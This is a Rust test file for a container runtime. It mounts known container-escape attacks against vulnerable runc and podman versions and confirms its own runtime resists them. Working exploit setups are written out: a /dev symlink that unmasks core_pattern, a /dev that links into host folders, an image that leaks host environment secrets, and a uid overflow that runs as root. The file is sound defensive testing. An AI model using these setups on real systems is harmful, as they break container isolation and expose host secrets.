//! Attacks that are known to fire: the same ones that our tests mount, on programs of Debian 12 that still have the holes.
//! A test that never fired proves nothing. `docs/security.tsv` names what each has shown.
//!
//! Everything that is harmed is a folder of the test's own.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::json;

use crate::bundle::{Bundle, OURS, is_ours};
use crate::podman::Podman;

/// The versions in which the attacks were seen to succeed.
const RUNC: &str = "runc version 1.1.5";
const PODMAN: &str = "podman version 4.3.1";

#[allow(clippy::disallowed_methods, reason = "tests start programs as anybody does")]
fn run(program: &str, words: &[&str]) -> Output {
    Command::new(program).args(words).output().unwrap()
}

/// Whether a program is the one in which the holes are known. Another one may be mended.
fn is_known(program: &str, version: &str) -> bool {
    let output = run(program, &["--version"]);
    let said = String::from_utf8_lossy(&output.stdout);
    said.starts_with(version)
}

/// Files that nothing in a container may touch, named as what attacks replace.
fn canary(folder: &Path) -> PathBuf {
    let path = folder.join("canary");
    std::fs::create_dir(&path).unwrap();
    std::fs::write(path.join("ptmx"), "canary").unwrap();
    path
}

/// What is in it: names, and where links lead.
fn seen(canary: &Path) -> Vec<String> {
    let mut all: Vec<String> = std::fs::read_dir(canary)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let target = std::fs::read_link(&path).map(|t| format!(" -> {}", t.display()));
            format!("{name}{}", target.unwrap_or_default())
        })
        .collect();
    all.sort();
    all
}

impl Bundle {
    /// Runs it with any runtime.
    fn run_by(&self, runtime: &str) -> Output {
        let state = self.path.join("other-state");
        let state = state.to_str().unwrap();
        run(runtime, &["--root", state, "run", "-b", self.bundle(), &self.id])
    }
}

/// CVE-2025-31133, as `a_volume_over_dev_cannot_choose_what_masks`: what is seen where `/proc/keys` is hidden.
fn masks_from_a_volume(runtime: &str) -> String {
    let script = "grep -E ' /proc/(keys|timer_list) ' /proc/self/mountinfo | cut -d' ' -f4";
    let bundle = Bundle::with(&["sh", "-c", script], |config| {
        config["linux"]["maskedPaths"] = json!(["/proc/keys", "/proc/timer_list"]);
    });
    let evil = bundle.path.join("evil");
    std::fs::create_dir(&evil).unwrap();
    // Read by nobody and written by nobody: that it is mounted is enough to see.
    std::os::unix::fs::symlink("/proc/sys/kernel/core_pattern", evil.join("null")).unwrap();
    bundle.change(|config| {
        config["mounts"] = json!([
            { "destination": "/proc", "type": "proc", "source": "proc" },
            { "destination": "/dev", "type": "bind", "source": evil, "options": ["rbind"] },
        ]);
    });
    let output = bundle.run_by(runtime);
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// CVE-2026-41579, as `dev_as_a_link_stays_inside`: what is in the folder of the host that the image's `/dev` leads to.
fn dev_that_is_a_link(runtime: &str) -> Vec<String> {
    let bundle = Bundle::new(&["true"]);
    let canary = canary(&bundle.path);
    std::fs::remove_dir(bundle.path.join("rootfs/dev")).unwrap();
    std::os::unix::fs::symlink(&canary, bundle.path.join("rootfs/dev")).unwrap();
    bundle.change(|config| {
        config["mounts"] = json!([{ "destination": "/proc", "type": "proc", "source": "proc" }]);
    });
    let _refused_or_run = bundle.run_by(runtime);
    seen(&canary)
}

#[test]
fn what_fires_on_runc_does_not_on_ours() {
    testkit::need!(Root, Program("runc", "runc"), Program("busybox", "busybox-static"));
    if !is_ours() {
        return;
    }
    let masks = masks_from_a_volume(OURS);
    assert!(!masks.contains("core_pattern"), "{masks}");
    assert_eq!(dev_that_is_a_link(OURS), ["ptmx"]);
    if !is_known("runc", RUNC) {
        return;
    }
    let masks = masks_from_a_volume("runc");
    assert!(masks.contains("/sys/kernel/core_pattern"), "the attack does not fire: {masks}");
    let links = dev_that_is_a_link("runc");
    assert!(links.contains(&"ptmx -> pts/ptmx".to_owned()), "the attack does not fire: {links:?}");
}

/// CVE-2026-55686, CVE-2024-40635, CVE-2026-57231: podman's own holes, whatever runs its containers.
#[test]
fn what_our_tests_mount_fires_on_podman() {
    testkit::need!(
        Root,
        Program("podman", "podman"),
        Program("conmon", "conmon"),
        Program("busybox", "busybox-static")
    );
    if !is_ours() || !is_known("podman", PODMAN) {
        return;
    }
    let (bundle, podman) = (Bundle::new(&["true"]), Podman::new());
    let canary = canary(&bundle.path);
    let rootfs = bundle.path.join("rootfs");
    std::os::unix::fs::symlink(&canary, rootfs.join("linked")).unwrap();
    std::os::unix::fs::symlink("busybox", rootfs.join("bin/env")).unwrap();
    let number = "99999999999999999999";
    std::fs::write(rootfs.join("etc/passwd"), format!("{number}:x:0:0::/:/bin/sh\n")).unwrap();
    let (layer, archive) = (bundle.path.join("layer.tar"), bundle.path.join("image.tar"));
    testkit::images::tar(&rootfs, &layer);
    let config = json!({
        "Cmd": ["env"], "Env": ["PATH=/bin", "SECRETX", "HOSTGLOB*"], "WorkingDir": "/linked/newdir",
    });
    testkit::images::wrap(&layer, "evil", &config, &archive);
    let policy = podman.folder.join("policy.json");
    let (policy, archive) = (policy.to_str().unwrap(), archive.to_str().unwrap());
    podman.ok(&["load", "--signature-policy", policy, "-q", "-i", archive]);
    let host = [("SECRETX", "of-the-host"), ("HOSTGLOB1", "of-the-host-too")];
    let output = podman.run_with(&host, &["run", "--rm", "--network", "none", "evil"]);
    let env = String::from_utf8_lossy(&output.stdout);
    assert!(env.contains("SECRETX=of-the-host\n"), "the attack does not fire: {output:?}");
    assert!(env.contains("HOSTGLOB1=of-the-host-too\n"), "the attack does not fire: {output:?}");
    assert_eq!(seen(&canary), ["newdir", "ptmx"], "the attack does not fire: {output:?}");
    let id = ["run", "--rm", "--network", "none", "-w", "/", "-u", number, "evil", "id", "-u"];
    assert_eq!(podman.ok(&id), "0", "the attack does not fire");
}
